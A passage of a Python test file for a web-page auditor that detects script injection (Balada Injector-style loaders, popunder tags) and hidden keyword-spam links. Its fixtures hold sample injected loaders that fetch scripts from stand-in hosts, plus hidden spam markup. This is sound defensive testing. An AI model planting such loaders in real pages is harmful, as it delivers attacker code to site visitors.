              "</a></li></ul>")


# a copywriting blog's "show more" list a script reveals, and a football shop's official
# replica kits in a collapsed list: コピー and レプリカ inside other words sell no fakes
_JA_COPYWRITING = ("<button onclick=\"document.getElementById('more').style.display='block'\">"
                   "もっと見る</button><div id='more' style='display:none'><a href='/blog/1'>"
                   "キャッチコピーの作り方</a><a href='/blog/2'>売れるコピーの書き方</a>"
                   "<a href='/blog/3'>ヘッドコピー事例集</a>"
                   "<a href='/blog/4'>ボディコピーとは</a></div>")
_JA_REPLICA_KITS = ("<div class='more-items' style='display:none'><a href='/item/101'>2026 "
                    "レプリカユニフォーム ホーム</a><a href='/item/102'>2026 レプリカユニフォーム "
                    "アウェイ</a><a href='/item/103'>レプリカユニフォーム キッズ</a></div>")


@pytest.mark.parametrize("body", [_JA_NEWS_LINKS, _JA_SHOP_HIDDEN, _JA_COPIERS, _JA_QUOTED,
                                  _JA_COPYWRITING, _JA_REPLICA_KITS],
                         ids=["news links", "shop's hidden sale links", "copiers", "quoted",
                              "copywriting posts", "replica kits"])
def test_japanese_pages_own_links_are_no_keyword_hack(body: str,
                                                     audit_listed: AuditListed) -> None:
    report = audit_listed(_ja_page(body), _JA_SITE + "/2026/11/ferry/")
    assert [f for f in report.findings if f.kind == "hidden-links"] == []


def test_a_japanese_shop_left_at_an_english_lang_is_a_japanese_page(
        audit_listed: AuditListed) -> None:
    """A Japanese shop whose theme says `lang="en-US"` read as a page not in Japanese,
    so its own hidden sale links (激安, 格安, 通販) were the keyword hack's, high: its kana
    title says what language it is in."""
    page = _ja_page(_JA_SHOP_HIDDEN).replace('lang="ja"', 'lang="en-US"').replace(
        "<title>港新聞</title>", "<title>さくら家具 | 通販サイト</title>")
    report = audit_listed(page, _JA_SITE + "/")
    assert [f for f in report.findings if f.kind == "hidden-links"] == []


# --- Balada Injector's plain loader before the doctype --------------------------------
# Sucuri's Balada write-ups: the payload stored in `wp_options` (a widget's or a theme's
# option) is echoed before `<!DOCTYPE html>`, a plain `currentScript` loader of a rotating
# domain; in `<head>` the same loader is what any vendor's async tag looks like.
BALADA_PLAIN = (
    "<script>var s=document.createElement('script');s.src='https://stay.linestoget.test/"
    "scripts/check.js?v=9';if(document.currentScript){document.currentScript.parentNode."
    "insertBefore(s,document.currentScript);}else{document.getElementsByTagName('head')[0]."
    "appendChild(s);}</script>")
_CHAT_TAG = '<script async src="https://widget.kiwichat.example/loader.js?id=77121"></script>'
# a consent manager's stub and loader of a vendor the catalogue does not know (made up):
# pasted before the doctype it puts Chromium in quirks mode (`document.compatMode` is
# "BackCompat"; "CSS1Compat" at the top of `<head>`), which no vendor's guide asks for
_CMP_STUB = ("<script>window.__tcfapi=window.__tcfapi||function(){(window.__tcfapi.a=window."
             "__tcfapi.a||[]).push(arguments)};var s=document.createElement('script');s.src="
             "'https://cmp.consentbridge.test/cmp.js';document.head.appendChild(s);</script>")


@pytest.mark.parametrize(("page", "severity", "where"), [
    (BALADA_PLAIN + wp_page(), H, "<!DOCTYPE>"),
    (BALADA_PLAIN + "\n" + wp_page(), H, "<!DOCTYPE>"),
    (_CHAT_TAG + wp_page(), H, "<!DOCTYPE>"),
    # the echo, the doctype and `<html>` on one line: no line lies before `<html>`'s, the
    # tag was no finding at all
    (_CHAT_TAG + wp_page().replace("\n", " "), H, "<!DOCTYPE>"),
    (_CMP_STUB + wp_page(), H, "<!DOCTYPE>"),
    # the same tags after `</html>`: a widget pasted at the file's end reads alike
    (wp_page(after=BALADA_PLAIN), M, "</html>"),
    (wp_page(after=_CHAT_TAG), M, "</html>"),
], ids=["balada on the doctype's line", "balada before the doctype", "a tag before the "
        "doctype", "a tag before the doctype, all on one line", "a consent stub before the "
        "doctype", "balada after </html>",
        "a chat widget after </html>"])
def test_a_script_before_the_doctype_is_high(page: str, severity: Severity, where: str,
                                            audit_listed: AuditListed) -> None:
    found = [f for f in audit_listed(page, URL).findings if f.kind == "appended-script"]
    assert [f.severity for f in found] == [severity], found
    assert where in found[0].message


def test_a_script_in_the_head_or_a_doctype_in_a_string_is_not_before_the_doctype(
        audit_listed: AuditListed) -> None:
    """The plain loader in `<head>` is no finding (any vendor's tag reads so), and a
    doctype in a script's string before the page's start is not the page's."""
    assert audit_listed(wp_page(head=BALADA_PLAIN), URL).findings == ()
    # a page minified to one line, the doctype first: its head's tag is on the doctype's
    # line, not before it
    one_line = wp_page(head=_CHAT_TAG).replace("\n", " ")
    assert [f for f in audit_listed(one_line, URL).findings if f.kind == "appended-script"
            ] == []
    written = ("<script>document.write('<!DOCTYPE html>');</script>"
               "<!-- cached page --><!DOCTYPE html>")
    line, prefix = before_doctype(written)
    assert line == 1 and prefix.endswith("<!-- cached page -->")


# --- Balada Injector's plain loader at the top of `<head>` ----------------------------
# Sucuri's write-ups find the plain `currentScript` loader printed first in `<head>`, before
# the `<meta charset>` every WordPress template prints first: `medium` (a vendor asking for
# "as high in the head as possible" is pasted there too), `high` with a mark (an encoding).
_GTM_TOP = (
    "<script>(function(w,d,s,l,i){w[l]=w[l]||[];w[l].push({'gtm.start':new Date().getTime(),"
    "event:'gtm.js'});var f=d.getElementsByTagName(s)[0],j=d.createElement(s),dl=l!='dataLayer'"
    "?'&l='+l:'';j.async=true;j.src='https://www.googletagmanager.com/gtm.js?id='+i+dl;f."
    "parentNode.insertBefore(j,f);})(window,document,'script','dataLayer','GTM-ABC1234');"
    "</script>")


@pytest.mark.parametrize(("head_top", "severity"), [
    (BALADA_PLAIN, M),
    (_CHAT_TAG, M),  # an unknown vendor's tag pasted first reads alike: a reviewer checks
    (_CMP_STUB, M),  # a consent stub asks to be first in the head: the same check
    (BALADA_SRC, H),  # its address in char codes
], ids=["balada's plain loader", "an unknown tag", "a consent stub",
        "balada's fromCharCode loader"])
def test_a_script_before_the_charset_at_the_top_of_head_is_found(
        head_top: str, severity: Severity, audit_listed: AuditListed) -> None:
    found = [f for f in audit_listed(wp_page(head_top=head_top), URL).findings
             if f.kind == "appended-script"]
    assert [f.severity for f in found] == [severity], found
    assert "before its <meta charset>" in found[0].message


def test_a_short_named_sites_own_cdn_first_in_the_head_is_low(
        audit_listed: AuditListed) -> None:
    """A site with a short name (eHow) serves its scripts from `ehowcdn`: its own CDN,
    glued to an asset word alone, is checked at `low`, not read as another site's tag."""
    page = wp_page(head_top='<script src="//v5-static.ehowcdn.test/ui/scripts/plugins/'
                            'adunblock.plugin.js"></script>')
    found = [f for f in audit_listed(page, "https://www.ehow.test/how_4851888_party.html"
                                     ).findings if f.kind == "appended-script"]
    assert [f.severity for f in found] == [Severity.LOW], found
    assert "carries the page's own name" in found[0].message


@pytest.mark.parametrize(("host", "severity"), [
    ("static-harbourgazette.com", Severity.LOW),  # its CDN on a sister domain
    ("cdn.harbourgazette-media.example", Severity.LOW),
    ("harbourgazette-app.top", M),  # its name bought for cents where abuse is the rule
    ("static.harbourgazette.xyz", M),
    ("harbourgazette.net", Severity.LOW),  # its name alone on another suffix
    ("harbourgazettecdn.com", Severity.LOW),
    ("js.harbourgazette-eu.com", Severity.LOW),  # a region's letters beside it
    # its name and a word no asset host is named by: a lure registered per victim
    ("harbourgazette-deals.com", M),
    ("harbourgazette-secure-pay.com", M),
], ids=["static-<site>.com", "<site>-media", "<site>-app.top", "<site>.xyz", "<site>.net",
        "<site>cdn.com", "<site>-eu.com", "<site>-deals.com", "<site>-secure-pay.com"])
def test_a_host_bearing_the_sites_name_on_a_cheap_tld_is_not_its_cdn(
        host: str, severity: Severity, audit_listed: AuditListed) -> None:
    """A host carrying the page's name is its CDN (low), but not on a top-level domain
    abuse reports find most names abused in, a suffix the site is not on itself, nor with
    a word beside the name that names no asset host (`-deals`): medium, the owner checks."""
    page = wp_page(head_top=f'<script src="https://{host}/k.js"></script>')
    found = [f for f in audit_listed(page, URL).findings if f.kind == "appended-script"]
    assert [f.severity for f in found] == [severity], found


# a page saved from the browser's DOM after its tags ran (hunt36c: a news site's saved
# copy): its vendors' loaders inserted their scripts before the first one, so the head opens
# with an audience tag's, an exchange's and a widget's calls, and with the media group's own
# CDN copy of an analytics library among them, all before the charset
_INSERTED = (
    '<script src="http://cdn.krxd.net/userdata/get?pub=0f1e2d3c-4b5a-4697-8877-665544332211'
    '&amp;callback=Krux.ns._default.kxjsonp_userdata"></script>'
    '<script async src="http://rtax.criteo.com/delivery/rta/rta.js?netId=1234&amp;'
    'cookieName=crtg_trnr&amp;varName=crtg_content"></script>'
    '<script async src="http://odb.outbrain.com/utils/get?url=https%3A%2F%2Fwww.harbourgazette'
    '.example%2F2026%2F11%2Fferry-timetable-vote%2F&amp;widgetJSId=AR_1&amp;'
    'key=NANOWDGT01&amp;format=html"></script>')
_GROUP_CDN = '<script src="//s.cdn.harbourmedia.example/analytics/stats.min.js"></script>'


# the media group's CDN serves the saved page more than the one script inserted at the top:
# its player, its stylesheet (a saved DOM's later loads of the group's own hosts)
_GROUP_LATER = ('<link rel="stylesheet" href="//s.cdn.harbourmedia.example/css/group.css">'
                '<script src="//s.cdn.harbourmedia.example/player/video.min.js"></script>')


def test_a_saved_pages_inserted_tags_before_the_charset_are_no_injection(
        audit_listed: AuditListed) -> None:
    """Several known vendors' tags before the charset are what the page's own loaders
    inserted while it ran, kept by a copy saved from the DOM: a script of a host the
    catalogue does not know among them, a host the page loads other files of, was inserted
    so too, not pasted by an injector."""
    found = [f for f in audit_listed(wp_page(head_top=_INSERTED + _GROUP_CDN,
                                             footer=_GROUP_LATER), URL).findings
             if f.kind == "appended-script"]
    assert found == []


def test_a_pop_tag_in_a_saved_pages_run_is_the_popunders_not_the_group_cdns(
        audit_listed: AuditListed) -> None:
    """A DOM save of a page an injector gave PopCash's tag: the run of the page's own
    inserts holds without it, so the group CDN's script stays the page's (it read
    `medium`, the only finding pointing away from the tag), and `popunder` reports the
    injected tag."""
    pop = ("<script>var uid='482913';var wid='731204';</script>"
           "<script src='//cdn.popcash.net/show.js'></script>")
    report = audit_listed(wp_page(head_top=pop + _INSERTED + _GROUP_CDN,
                                  footer=_GROUP_LATER), URL)
    assert [(f.kind, f.severity) for f in report.findings if f.severity is not L] == [
        ("popunder", M)], report.findings


def test_a_run_of_vendor_tags_no_page_code_built_clears_no_loader(
        audit_listed: AuditListed) -> None:
    """The same run, its outbrain call's page address gone (`url=x`): tags as written for
    any page, which an injector prints as cheaply as the group CDN's second file, are no
    saved run, and the unknown loader among them is found."""
    printed = _INSERTED.replace(
        "url=https%3A%2F%2Fwww.harbourgazette.example%2F2026%2F11%2Fferry-timetable-vote%2F",
        "url=x")
    assert printed != _INSERTED
    found = [f for f in audit_listed(wp_page(head_top=printed + _GROUP_CDN,
                                             footer=_GROUP_LATER), URL).findings
             if f.kind == "appended-script"]
    assert [f.severity for f in found] == [M], found


# an injector's blob printing three well-known vendors' tags (GPT, Google Analytics, Meta's
# pixel, each async as an inserted tag is) before its own loader, to pass as a saved run
_PRINTED = ('<script async src="https://securepubads.g.doubleclick.net/tag/js/gpt.js"></script>'
            '<script async src="https://www.google-analytics.com/analytics.js"></script>'
            '<script async src="https://connect.facebook.net/en_US/fbevents.js"></script>')
_OWN_LOADER = '<script async src="https://cdn.statsmetricpulse.test/tag/loader.js"></script>'


@pytest.mark.parametrize("footer", [
    "",
    # the site's own tags of the same vendors later (the blob copies what the page runs)
    _PRINTED.replace("<script async", "<script"),
    # the injector's loader printed twice: the same file at the top and in the footer
    _OWN_LOADER,
    # another file of its host in the footer, as a group CDN serves a saved page more: the
    # printed run carries no request the page built (no page address), so no saved run
    '<script src="https://cdn.statsmetricpulse.test/tag/pixel.js"></script>',
], ids=["vendors the page never loads", "vendors the page loads later",
        "its own loader again in the footer", "another file of its host in the footer"])
def test_a_loader_after_printed_vendor_tags_is_still_found(
        footer: str, audit_listed: AuditListed) -> None:
    """Three known vendors' tags before an unknown script are no saved page's run where the
    unknown script's host serves the page nothing else: a saved DOM's inserted copy of a
    group CDN's script comes from a host the page loads its other files from; an injector's
    loader host is the injector's, met nowhere else on the page."""
    found = [f for f in audit_listed(wp_page(head_top=_PRINTED + _OWN_LOADER, footer=footer),
                                     URL).findings
             if f.kind == "appended-script"
             and "statsmetricpulse" in (f.evidence or "") + f.message]
    assert [f.severity for f in found][:1] == [M], found


def test_a_printed_run_copying_the_pages_address_into_a_tag_file_is_no_saved_run(
        audit_listed: AuditListed) -> None:
    """An injector's printed run with the page's address copied into a vendor's script
    file (`fbevents.js?u=<page>`, which a server-side injector knows) is no request the
    page's code built: a vendor's file is loaded as its docs write it, for any page; the
    calls a saved DOM keeps that name the page are endpoints (a bid, a widget's `get`)."""
    copied = _PRINTED.replace(
        "fbevents.js", "fbevents.js?u=https%3A%2F%2Fwww.harbourgazette.example%2F2026%2F"
                       "11%2Fferry-timetable-vote%2F")
    found = [f for f in audit_listed(wp_page(
        head_top=copied + _OWN_LOADER,
        footer='<script src="https://cdn.statsmetricpulse.test/tag/pixel.js"></script>'),
        URL).findings if f.kind == "appended-script"]
    assert [f.severity for f in found][:1] == [M], found


# a blog platform's page saved from the DOM (Kinja's Lifehacker, BuzzFeed): the platform's
# script its code inserted above the charset, its design and code on the platform's hosts
_PLATFORM_URL = "https://lifestyle.example/how-to-save-1690268064"


def _platform_page(head_top: str, *, own_sheet: str = "") -> str:
    """A page styled and run by its platform's static host (`x.blogplatform-static.test`),
    with `head_top` above its late charset and `own_sheet` (a sheet on the page's site)."""
    static = "http://x.blogplatform-static.test/assets"
    return f"""<!DOCTYPE html>
<html lang="en-US"><head><meta content="IE=EDGE" http-equiv="X-UA-Compatible">{head_top}
<link href="{static}/stylesheets/tiger-0331994.css" rel="stylesheet">{own_sheet}
<meta charset="utf-8"><title>How to save</title>
<link rel="canonical" href="{_PLATFORM_URL}">
<script src="{static}/javascripts-min/layer/Main-en-US-fc52d10f.js"></script>
</head><body><article><h1>How to save</h1>{_PARA}{_PARA}</article>
<script src="{static}/javascripts-min/module/Analytics-en-US-64fff52.js"></script>
</body></html>"""


_PLATFORM_SSO = '<script src="http://blogplatform.test/api/profile/sso.js" async></script>'


@pytest.mark.parametrize(("page", "severity"), [
    (_platform_page(_PLATFORM_SSO), None),  # the platform's own: its name styles the page
    # its static host itself serving a script at the top (BuzzFeed's buzzfed.com)
    (_platform_page('<script src="http://x.blogplatform-static.test/assets/js/share.js">'
                    '</script>'), None),
    # an injector's script at the top of the same scraped copy: a host of its own
    (_platform_page('<script src="https://cdn.statsmetricpulse.test/tag/loader.js"></script>'),
     M),
    # the page's own site styles it too: its design is its own, the platform's sheets a kit's
    (_platform_page(_PLATFORM_SSO, own_sheet='<link rel="stylesheet" href="/css/site.css">'),
     M),
], ids=["the platform's script", "its static host's script", "an injector's script",
        "a page styled by its own site too"])
def test_a_platform_script_above_the_charset_is_the_sites(
        page: str, severity: Severity | None, audit_listed: AuditListed) -> None:
    """A script above the charset of the site whose hosts serve the page's stylesheets and
    code (its name on the static host: `blogplatform-static` for `blogplatform`) is the
    platform's own, inserted as the page ran; another host there stays medium."""
    found = [f for f in audit_listed(page, _PLATFORM_URL).findings
             if f.kind == "appended-script"]
    assert [f.severity for f in found] == ([severity] if severity else []), found


_STATS = "https://cdn.statsmetricpulse.test"


@pytest.mark.parametrize("page", [
    # an injector printing two sheets of its host past the charset outnumbers the
    # platform's one: another site styles the page beside it, so it is no platform
    _platform_page(f'<script src="{_STATS}/tag/loader.js"></script>').replace(
        "</head>", f'<link rel="stylesheet" href="{_STATS}/a/x.css">'
                   f'<link rel="stylesheet" href="{_STATS}/a/y.css"></head>', 1),
    # hosts whose name the platform's static host bears, registered by the injector:
    # another suffix, a cheap one, the static host's name re-spelt without its hyphen
    _platform_page('<script src="https://blogplatform.net/api/profile/sso.js"></script>'),
    _platform_page('<script src="https://blogplatform-static.top/api/sso.js"></script>'),
    _platform_page('<script src="https://blogplatformstatic.test/api/sso.js"></script>'),
], ids=["its own sheets outnumbering", "the platform's name on .net",
        "the static host's name on .top", "the static host's name unhyphenated"])
def test_an_injector_dressed_as_the_platform_is_still_found(
        page: str, audit_listed: AuditListed) -> None:
    """The platform reading (`_platform_script`) is for the one site styling a page whose
    own site links no sheet: an injector's sheets beside the platform's make two sites
    styling it, neither the page's design for sure; and a script's site is the platform of
    the static host only where that host is its name with asset words on its own suffix,
    not a name bearing the static host's own, which anyone registers elsewhere."""
    found = [f for f in audit_listed(page, _PLATFORM_URL).findings
             if f.kind == "appended-script"]
    assert [f.severity for f in found] == [M], found


def _sheetless_copy(assets: str, *, images: int = 0) -> str:
    """The platform page styled inline, its scripts on `assets` (and `images` pictures in
    its article), an injector's script above the charset and one sheet and two scripts of
    its host past it: the only sheet the head links is the injector's."""
    page = _platform_page(f'<script src="{_STATS}/tag/loader.js"></script>')
    page = page.replace('<link href="http://x.blogplatform-static.test/assets/stylesheets/'
                        'tiger-0331994.css" rel="stylesheet">',
                        "<style>body{font:16px serif}</style>")
    page = page.replace("http://x.blogplatform-static.test/assets", assets)
    page = page.replace("</article>", "".join(
        f'<img src="{assets}/img/{n}.jpg" alt="">' for n in range(images)) + "</article>")
    return page.replace("</head>", f'<link rel="stylesheet" href="{_STATS}/a/x.css">'
                        f'<script src="{_STATS}/a/y.js"></script><script src="{_STATS}/a/'
                        'z.js"></script></head>', 1)


@pytest.mark.parametrize("page", [
    # the page's own asset host (its name) serves its scripts and pictures
    _sheetless_copy("https://news-cdn.lifestyle-assets.example/a", images=2),
    # a scraped copy re-hosting the page's scripts and pictures on the scraper's host
    _sheetless_copy("https://cdn.mirrorhost.example/lifestyle", images=2),
], ids=["the page's own asset host", "a copy's re-hosted files"])
def test_an_injectors_sheet_on_a_page_styled_inline_is_no_platform(
        page: str, audit_listed: AuditListed) -> None:
    """A page styled inline holds no platform's sheet: an injector printing one sheet of
    its host beside its script above the charset (and two files past it) served every
    sheet the head links and passed as the platform (no finding; medium before a55ebd4).
    A platform serves the page: more of its scripts, sheets and pictures (vendors' aside)
    than every other site together, the page's own site too."""
    found = [f for f in audit_listed(page, _PLATFORM_URL).findings
             if f.kind == "appended-script"]
    assert [f.severity for f in found] == [M], found


def test_a_kit_printing_its_sheets_beside_the_theme_is_no_platform(
        audit_listed: AuditListed) -> None:
    """A kit printing its loader above the charset, and three sheets and scripts of its
    host past it on a WordPress page whose theme links its own sheet, outnumbers the theme
    but styles no page the site styles itself: medium."""
    kit = "https://cdn.trafficbridge.test"
    head = "".join(f'<link rel="stylesheet" href="{kit}/a/{n}.css">' for n in "xyz")
    found = [f for f in audit_listed(wp_page(
        head_top=f'<script src="{kit}/a/top.js"></script>', head=head,
        footer="".join(f'<script src="{kit}/a/{n}.js"></script>' for n in "xyz")),
        URL).findings if f.kind == "appended-script"]
    assert [f.severity for f in found] == [M], found


@pytest.mark.parametrize(("head_top", "severity"), [
    # two vendors' tags are a template that pastes its tags first, not a run of inserts
    (_INSERTED.rsplit("<script", 1)[0] + _GROUP_CDN, M),
    (_INSERTED + BALADA_SRC, H),  # an encoded address is an injector's whatever is beside it
    # popunder networks' tags and a loader of the injector's own: what injectors paste, no
    # run a page's own loaders inserted (revG36)
    ('<script src="https://a.magsrv.com/ad-provider.js"></script>'
     '<script src="//cdn.popcash.net/show.js"></script>'
     '<script src="//c.adsco.re/"></script>'
     '<script src="https://xk2.lodgeroute.top/j/loader.js"></script>', M),
], ids=["two vendors' tags beside it", "an encoded loader among inserted tags",
        "popunder networks' tags beside it"])
def test_a_script_before_the_charset_beside_few_vendors_or_encoded_is_still_found(
        head_top: str, severity: Severity, audit_listed: AuditListed) -> None:
    found = [f for f in audit_listed(wp_page(head_top=head_top), URL).findings
             if f.kind == "appended-script"]
    assert [f.severity for f in found] == [severity], found


# a partner kit's loader block pasted first in the head, and its configuration block the
# page runs after it (made-up names, the shape of a publisher network's partner kit)
_KIT_LOADER = ("<script>var HGKIT_SiteName = 'harbour-gazette.example';(function(){document."
               "write('<scr'+'ipt src=\"https://share.partnerkit.test/loaders/kit.min.js\">"
               "</scr'+'ipt>');}());</script>")
_KIT_SETUP = ("<script>HGKIT_Loader.setup();HGKIT_Config.setSectionName('news');"
              "HGKIT_ThirdParty.initialize();</script>")
_KIT_DIRECT = '<script src="https://cdn.tidewidgets.test/kit/loader.js"></script>'


_KIT_SLOT = '<div id="hgkit_ad_banner_top" class="advert" data-ad-type="BannerTop"></div>'


@pytest.mark.parametrize("page", [
    # its namespace: the loader block sets HGKIT_SiteName; the body holds the kit's slots
    wp_page(head_top=_KIT_LOADER + _KIT_SETUP, body_top=_KIT_SLOT),
    # its address; the page's own code past the charset configures it
    wp_page(head_top=_KIT_DIRECT,
            footer="<script>TideWidgets.init({site: 'gazette'});</script>"),
    wp_page(head_top=_KIT_DIRECT,
            head="<script>TideWidgets.init({site: 'gazette'});</script>"),
], ids=["a kit's loader and its setup block", "a loader whose global the page configures",
        "a loader the head configures past the charset"])
def test_a_loader_first_in_the_head_the_page_configures_is_its_build(
        page: str, audit_listed: AuditListed) -> None:
    """A loader before the charset whose global the page's own later code calls is the
    publisher's setup, pasted where its kit says: no `appended-script`."""
    assert [f for f in audit_listed(page, URL).findings
            if f.kind == "appended-script"] == []


@pytest.mark.parametrize("head_top", [
    _KIT_DIRECT + "<script>GazetteMenu.init();</script>",  # a global not the loader's
    _KIT_DIRECT + "<script>var TideWidgets={init:function(){}};TideWidgets.init();</script>",
    BALADA_PLAIN + _KIT_SETUP,  # the kit's names, not the loader's
], ids=["an unrelated global", "a global the page defines", "another kit's setup"])
def test_a_loader_first_in_the_head_nothing_configures_stays_medium(
        head_top: str, audit_listed: AuditListed) -> None:
    found = [f for f in audit_listed(wp_page(head_top=head_top), URL).findings
             if f.kind == "appended-script"]
    assert [f.severity for f in found] == [M], found


@pytest.mark.parametrize("loader", [
    "https://185.12.4.9/loader/tidewidgets.js",  # a bare IP address
    "https://ferryblog.example/wp-content/plugins/tw/tidewidgets.js",  # another site's WP
], ids=["a bare IP", "another site's WordPress"])
def test_a_loader_the_footer_configures_from_no_vendors_host_stays_high(
        loader: str, audit_listed: AuditListed) -> None:
    """A call after the content configuring a head-top loader is a vendor's two-part install
    (`_configured_later` says why no rule tells an injector's pair apart), but not for a
    loader no vendor serves so: its call is the injector's own, and the loader stays high
    (a footer call cleared it)."""
    page = wp_page(head_top=f'<script src="{loader}"></script>',
                   footer="<script>TideWidgets.init({site: 'gazette'});</script>")
    found = [f for f in audit_listed(page, URL).findings if f.kind == "appended-script"]
    assert [f.severity for f in found] == [Severity.HIGH], found


# an injector writes both halves at the head's top: its loader and a call to its own
# global right beside it (made-up hosts, the shape of a WordPress injection's blob)
_INJECTED_PAIR = ('<script src="https://cdn.statsync.test/loader/statsync.js"></script>'
                  "<script>StatSync.init({k: 'a8f3'});</script>")
_INJECTED_KIT = ("<script>var ZQX_Key='a8f3';document.write('<scr'+'ipt src=\"https://q.zqxnet"
                 ".test/z.js\"></scr'+'ipt>');</script><script>ZQX_Run.go();</script>")


@pytest.mark.parametrize("head_top", [
    BALADA_PLAIN + '<div style="display:none">cheap flights</div>',
    _INJECTED_PAIR + '<iframe src="https://adsrv-qk7.example/f" width="0" height="0"></iframe>',
    _INJECTED_KIT + '<div id="zqx_box"></div>',
], ids=["a loader and a div", "a loader, its call and a frame", "a kit's blocks and its box"])
def test_a_loader_at_the_heads_top_with_body_markup_after_it_stays_found(
        head_top: str, audit_listed: AuditListed) -> None:
    """An element of the body in the blob (a `<div>`, a frame) ends the `<head>` for the
    parser: the page's `<meta charset>`, title and the rest go to the body. The loader is
    still before the charset, first in the page: found as at the head's top, and its own
    box in the blob is no container the page's template holds."""
    found = [f for f in audit_listed(wp_page(head_top=head_top), URL).findings
             if f.kind == "appended-script"]
    assert [f.severity for f in found] == [M], found


# a template that prints its own code before the charset (an Adobe CQ page, as Condé
# Nast's: its design's stylesheet, jQuery and the site's ad library, then a font kit of
# the publisher's group, then the charset; more of its design's files after it)
_TEMPLATE_FIRST = (f'<link rel="stylesheet" href="{SITE}/etc/designs/gazette/styles/global.css">'
                   f'<script src="{SITE}/etc/clientlibs/foundation/jquery.js"></script>'
                   f'<script src="{SITE}/ads/js/site.ads.min.js"></script>')
_TEMPLATE_REST = f'<script src="{SITE}/etc/designs/gazette/js/groupings/top.js"></script>'
_GROUP_KIT = '<script src="https://fonts.gazettegroup.test/rcr5ngf.js"></script>'


@pytest.mark.parametrize(("head_top", "found"), [
    (_TEMPLATE_FIRST + _GROUP_KIT, []),  # after the site's own code: the template's order
    (_GROUP_KIT + _TEMPLATE_FIRST, [M]),  # before it: prepended to the template
    (BALADA_PLAIN + _TEMPLATE_FIRST, [M]),
], ids=["after the template's own scripts", "before them", "balada before them"])
def test_a_script_after_the_sites_own_code_before_a_late_charset_is_the_templates(
        head_top: str, found: list[Severity], audit_listed: AuditListed) -> None:
    """A template that loads its own script files before the charset prints the charset
    late: another site's script after them is in the template's order, not pasted at the
    head's top; one before them still is."""
    assert [f.severity for f in audit_listed(wp_page(head_top=head_top, head=_TEMPLATE_REST),
                                             URL).findings
            if f.kind == "appended-script"] == found


@pytest.mark.parametrize("head_top", [
    # a stylesheet line of a relative path at the site's root, written before the blob
    '<link rel="stylesheet" href="/x.css">' + BALADA_PLAIN,
    '<link rel="stylesheet" href="/x.css"><script src="https://stay.linestoget.test/scripts/'
    'check.js"></script>',
    # a copy of the theme's own stylesheet link the template prints after the charset
    f'<link rel="stylesheet" href="{SITE}/wp-content/themes/gazette/style.css">' + BALADA_PLAIN,
    # a line of a fresh file in a folder of its own, which no other file of the page's
    # shares (an injector that reads the page and writes one: was no finding)
    '<link rel="stylesheet" href="/a/x.css">' + BALADA_PLAIN,
    f'<script src="{SITE}/assets/k7/loader.js"></script>' + BALADA_PLAIN,
    # many fresh files in a fresh folder, as many as a template's, all at the head's top
    # with the blob and none past it (was no finding: the folder counted its own lines)
    '<link rel="stylesheet" href="/a/css/1.css"><link rel="stylesheet" href="/a/css/2.css">'
    '<script src="/a/js/3.js"></script>' + BALADA_PLAIN,
], ids=["a root stylesheet before an inline loader", "a root stylesheet before a tag",
        "a copy of the theme's stylesheet", "a fresh folder's stylesheet",
        "a fresh folder's script", "a fresh folder's many files"])
def test_a_file_line_an_injector_writes_first_does_not_end_the_heads_top(
        head_top: str, audit_listed: AuditListed) -> None:
    """The head's top run ends at the template's own first file, not at any line of the
    site's host: a stylesheet `/x.css` at the site's root, a second copy of a file the
    template loads, or files of a folder nothing past the head's top loads from, written
    before a blob, are the blob's, which stays at the head's top."""
    assert [f.severity for f in audit_listed(wp_page(head_top=head_top), URL).findings
            if f.kind == "appended-script"] == [M]


# real templates whose first own file sits alone in its folder at depth 3 before a late
# charset, another site's tag after it: a WordPress theme's stylesheet (its other files
# in wp-includes), a build's `assets/css/` beside `assets/js/` on the site's static host,
# a create-react-app build's `static/css/` beside `static/js/`
_ALONE_FIRST = {
    "wordpress theme": (f'<link rel="stylesheet" href="{SITE}/wp-content/themes/tide/style.css'
                        '?ver=5.1">',
                        f'<script src="{SITE}/wp-includes/js/jquery/jquery.js?ver=1.12.4">'
                        "</script>"),
    "static host assets": ('<link rel="stylesheet" href="https://static.harbourgazette.example'
                           '/assets/css/main.4f3a.css">',
                           '<script src="https://static.harbourgazette.example/assets/js/'
                           'app.9e1b.js"></script>'),
    "static css beside static js": ('<link rel="stylesheet" href="/static/css/main.8c1d.css">',
                                    '<script src="/static/js/main.2b7e.js"></script>'),
}


def _late_charset_page(first: str, rest: str) -> str:
    return (f"<!DOCTYPE html><html><head>{first}{_GROUP_KIT}<meta charset=\"utf-8\">"
            f"<title>Winter ferry timetable</title>{rest}</head><body><article>{_PARA}{_PARA}"
            "</article></body></html>")


@pytest.mark.parametrize("template", sorted(_ALONE_FIRST))
def test_a_templates_first_file_alone_in_its_folder_still_ends_the_heads_top(
        template: str, audit_listed: AuditListed) -> None:
    """A template's own first file ends the head's top though its build folder three deep
    holds no other file of the page's: WordPress's theme and its core (`wp-includes`) are
    one build, and a build's `css/` and `js/` folders are one folder."""
    first, rest = _ALONE_FIRST[template]
    assert [f for f in audit_listed(_late_charset_page(first, rest), URL).findings
            if f.kind == "appended-script"] == []


@pytest.mark.parametrize("first", [
    f'<link rel="stylesheet" href="{SITE}/wp-content/uploads/k7/x.css">',
    '<link rel="stylesheet" href="/css/x.css">',
], ids=["a fresh file in WordPress's uploads", "a fresh css folder at the root"])
def test_a_fresh_folder_beside_a_template_still_does_not_end_the_heads_top(
        first: str, audit_listed: AuditListed) -> None:
    """A fresh file in a folder of no build of the page's stays the blob's line: WordPress's
    uploads are no part of its theme's build, a root `css/` shares nothing with `js/`."""
    page = _late_charset_page(first, _ALONE_FIRST["wordpress theme"][1]
                              + '<script src="/js/app.js"></script>')
    assert [f.severity for f in audit_listed(page, URL).findings
            if f.kind == "appended-script"] == [M]


# a template that prints its own files and an unknown counter before a late charset (a
# Joomla-style /templates/<name>/ build), with nothing of that folder past the head's top,
# or with its menu script there as real late-charset templates load more of their build
_JOOMLA_TOP = ('<link rel="stylesheet" href="/templates/gazette/css/template.css">'
               '<script src="/templates/gazette/js/template.js"></script>'
               '<script src="https://stats.smallcount.example/counter.js?id=4411"></script>')


@pytest.mark.parametrize(("rest", "found"), [
    ("", [M]),
    ('<script src="/templates/gazette/js/menu.js"></script>', []),
], ids=["nothing of its folder past the top", "its menu script past the top"])
def test_a_late_charset_templates_files_are_vouched_for_past_the_top(
        rest: str, found: list[Severity], audit_listed: AuditListed) -> None:
    """Kept `medium` (re-judged, verd37): a head-top run of files of a folder nothing past
    the top loads from is what an injector that reads the page prints before its loader,
    and no line tells it from a template's. Every real late-charset template among the
    labelled sets' ~1,000 pages (Deutsche Welle's `/js/`, Fox Business's `/static/v/all/`,
